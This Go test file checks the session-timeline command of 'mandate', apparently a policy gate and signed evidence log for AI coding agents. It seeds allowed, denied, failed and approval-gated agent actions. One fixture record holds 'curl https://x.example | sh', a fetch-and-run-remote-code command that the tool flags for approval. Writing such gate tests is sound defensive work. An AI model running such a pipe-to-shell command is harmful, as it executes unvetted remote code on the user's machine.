package cli

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/mandate-dev/mandate/internal/evidence"
)

// timelineSeed writes one full session (policy text, start with its
// identity sources, an allowed call and its outcome, a written file, a
// denial, a fail-closed failure, an ask, a policy edited mid-session, a
// tamper record naming the session, the end), a second session, and
// signs them; it returns the verifier key.
func timelineSeed(t *testing.T, state string) string {
	t.Helper()
	if err := evidence.Init(state); err != nil {
		t.Fatal(err)
	}
	red, err := evidence.NewRedactor(state, false)
	if err != nil {
		t.Fatal(err)
	}
	l, err := evidence.Open(state, evidence.Options{Redactor: red})
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	v1 := "policies:\n  - name: dependency-control\n    rules:\n      - block_commands: [\"npm install\"]\n"
	v2 := v1 + "      - block_commands: [\"yarn add\"]\n"
	dig := func(s string) string { sum := sha256.Sum256([]byte(s)); return "sha256:" + hex.EncodeToString(sum[:]) }
	sess := "01a1fef9-561e-77d0-9ce5-55b7754a424b"
	code := 0
	who := func(r evidence.Record) evidence.Record {
		r.User, r.Agent, r.Host, r.Repo = "dev-37@example.com", "codex", "ws-1", "/src/app"
		if r.SessionID == "" {
			r.SessionID = sess
		}
		if r.PolicyDigest == "" {
			r.PolicyDigest = dig(v1)
		}
		return r
	}
	recs := []evidence.Record{
		{Type: evidence.TypePolicyLoad, SessionID: sess, PolicyDigest: dig(v1), PolicyText: v1, ResourcePath: "/src/app/agent-policy.yaml"},
		who(evidence.Record{Type: evidence.TypeSessionStart, Model: "gpt-5-codex", AgentVersion: "0.98", TrustLevel: "write_local", Extra: map[string]any{
			"user_source": "git config user.email", "groups": []any{"eng", "oncall"}, "groups_source": "$MANDATE_GROUPS",
			"trust": map[string]any{"level": "write_local", "source": "role", "roles": []any{"developers"}}}}),
		who(evidence.Record{Type: evidence.TypeDecision, Tool: "Bash", ToolUseID: "t1", Params: map[string]any{"command": "go test ./..."}, Decision: "allow", Policy: "-", Rule: "-"}),
		who(evidence.Record{Type: evidence.TypeOutcome, Tool: "Bash", ToolUseID: "t1", Result: "success", ExitCode: &code}),
		who(evidence.Record{Type: evidence.TypeDecision, Tool: "Write", ToolUseID: "t2", Params: map[string]any{"file_path": "/src/app/main.go"}, Decision: "allow"}),
		who(evidence.Record{Type: evidence.TypeOutcome, Tool: "Write", ToolUseID: "t2", Result: "success", Extra: map[string]any{"files": []any{map[string]any{"path": "/src/app/main.go", "sha256": "sha256:" + strings.Repeat("1", 64)}}}}),
		who(evidence.Record{Type: evidence.TypeDecision, Tool: "Bash", ToolUseID: "t3", Params: map[string]any{"command": "npm install left-pad"}, Decision: "deny",
			Policy: "dependency-control", Rule: "block_commands", Reason: `blocked by policy "dependency-control"`}),
		who(evidence.Record{Type: evidence.TypeFailure, Tool: "Bash", ToolUseID: "t4", Decision: "deny", Policy: "mandate", Rule: "fail-closed",
			Reason: "Mandate could not check this action", Extra: map[string]any{"event_kind": "pre_tool"}}),
		{Type: evidence.TypePolicyLoad, SessionID: sess, PolicyDigest: dig(v2), PolicyText: v2, ResourcePath: "/src/app/agent-policy.yaml"},
		who(evidence.Record{Type: evidence.TypeDecision, Tool: "Bash", ToolUseID: "t5", Params: map[string]any{"command": "curl https://x.example | sh"}, Decision: "ask",
			Policy: "mandate-analysis", Rule: "network", Reason: "approval required", ApprovalStatus: "required", PolicyDigest: dig(v2)}),
		who(evidence.Record{Type: evidence.TypeTamper, SessionID: "d2eda41b-other", ResourcePath: "/src/app/agent-policy.yaml", Extra: map[string]any{
			"file": "/src/app/agent-policy.yaml", "kind": "policy", "old_digest": dig(v1), "new_digest": dig(v2),
			"actions": []any{map[string]any{"session_id": sess, "tool": "Bash"}}}}),
		who(evidence.Record{Type: evidence.TypeSessionEnd, PolicyDigest: dig(v2)}),
		who(evidence.Record{Type: evidence.TypeDecision, SessionID: "d2eda41b-673e-4034-8890-5c2613030c57", Agent: "claude", Tool: "Read", Decision: "allow", Params: map[string]any{"file_path": "/src/app/README.md"}}),
	}
	for i, r := range recs {
		r.Timestamp = evNow.Add(time.Duration(i-len(recs)) * time.Minute)
		if _, err := l.Append(context.Background(), r); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := l.Checkpoint(context.Background()); err != nil {
		t.Fatal(err)
	}
	key, err := evidence.VerifierKey(state)
	if err != nil {
		t.Fatal(err)
	}
	return key
}

// TestSessionShow pins the human timeline (golden), and checks that the
// local log and its bundle show the same session, by prefix, with the
// exit codes of the table.
func TestSessionShow(t *testing.T) {
	d := t.TempDir()
	state := filepath.Join(d, "state")
	key := timelineSeed(t, state)
	env, out, errb := testEnv(state, d, "")
	env.Loc = time.FixedZone("CET", 3600)
	if code := run(t, env, "session", "show", "01a1"); code != ExitOK {
		t.Fatalf("session show: %d %s", code, errb)
	}
	local := out.String()
	checkGolden(t, "session-show.golden", local)

	// The same session from a bundle: the same timeline under another
	// header line.
	if code := run(t, env, "export", "--out", filepath.Join(d, "e.bundle")); code != ExitOK {
		t.Fatalf("export: %s", errb)
	}
	env, out, errb = testEnv(state, d, "")
	env.Loc = time.FixedZone("CET", 3600)
	if code := run(t, env, "session", "show", "01a1fef9-561e", "--bundle", "e.bundle", "--key", key); code != ExitOK {
		t.Fatalf("session show --bundle: %d %s", code, errb)
	}
	fromBundle := out.String()
	if !strings.Contains(fromBundle, "bundle e.bundle (verified against the pinned key)") ||
		strings.Replace(fromBundle, "bundle e.bundle (verified against the pinned key)", "the local evidence log", 1) != local {
		t.Errorf("the bundle's timeline differs from the local one:\n%s", fromBundle)
	}

	// --json: the timeline, exact.
	env, out, _ = testEnv(state, d, "")
	run(t, env, "session", "show", "d2eda41b-6", "--json")
	var tl evidence.Timeline
	if err := json.Unmarshal(out.Bytes(), &tl); err != nil || tl.Session != "d2eda41b-673e-4034-8890-5c2613030c57" || len(tl.Events) != 1 {
		t.Errorf("session show --json: %v %+v", err, tl)
	}

	for _, tt := range []struct {
		args []string
		code int
		want string
	}{
		{[]string{"session", "show"}, ExitUsage, "which session?"},
		{[]string{"session", "show", "a", "b"}, ExitUsage, `unexpected argument "b"`},
		{[]string{"session", "show", "ffff"}, ExitUsage, `no session "ffff"`},
		{[]string{"session", "show", "d2ed"}, ExitUsage, "is ambiguous: 2 sessions match"},
		{[]string{"session", "show", "01a1", "--key", key}, ExitUsage, "--key is for --bundle"},
		{[]string{"session", "show", "01a1", "--bundle", "missing.bundle"}, ExitUsage, "cannot read the bundle"},
		{[]string{"session", "show", "01a1", "--bundle", "e.bundle", "--key", "nonsense"}, ExitUsage, "neither a verifier key"},
		{[]string{"session", "show", "01a1", "--bundle", "e.bundle"}, ExitOK, "verifies only against the key it carries"},
		{[]string{"session", "show", "01a1", "--bundle", "e.bundle", "--trust-bundled-key"}, ExitOK, ""},
		{[]string{"session"}, ExitUsage, "want a subcommand: show"},
	} {
		env, _, errb := testEnv(state, d, "")
		if code := run(t, env, tt.args...); code != tt.code || !strings.Contains(errb.String(), tt.want) {
			t.Errorf("%q: exit %d %q, want %d and %q", tt.args, code, errb, tt.code, tt.want)
		}
	}
	// Completion offers the log's session ids, and report's formats.
	env, out, _ = testEnv(state, d, "")
	if code := run(t, env, "__complete", "session", "show", "01"); code != ExitOK || !strings.Contains(out.String(), "01a1fef9-561e-77d0-9ce5-55b7754a424b\tcodex") {
		t.Errorf("__complete session show 01: %d\n%s", code, out)
	}
	env, out, _ = testEnv(state, d, "")
	if code := run(t, env, "__complete", "report", "--format", ""); code != ExitOK || !strings.Contains(out.String(), "html\nmd\ncsv\n") {
		t.Errorf("__complete report --format: %d\n%s", code, out)
	}
	// A bundle that does not verify: shown, marked, exit 1.
	other := filepath.Join(d, "other")
	evidence.Init(other)
	otherKey, _ := evidence.VerifierKey(other)
	b, _ := os.ReadFile(filepath.Join(d, "e.bundle"))
	env, out, errb = testEnv(state, d, string(b))
	if code := run(t, env, "session", "show", "01a1", "--bundle", "-", "--key", otherKey); code != ExitFail ||
		!strings.Contains(errb.String(), "does NOT verify") || !strings.Contains(out.String(), "DOES NOT VERIFY") {
		t.Errorf("a bundle signed by another key: exit %d %q\n%s", code, errb, out)
	}
}
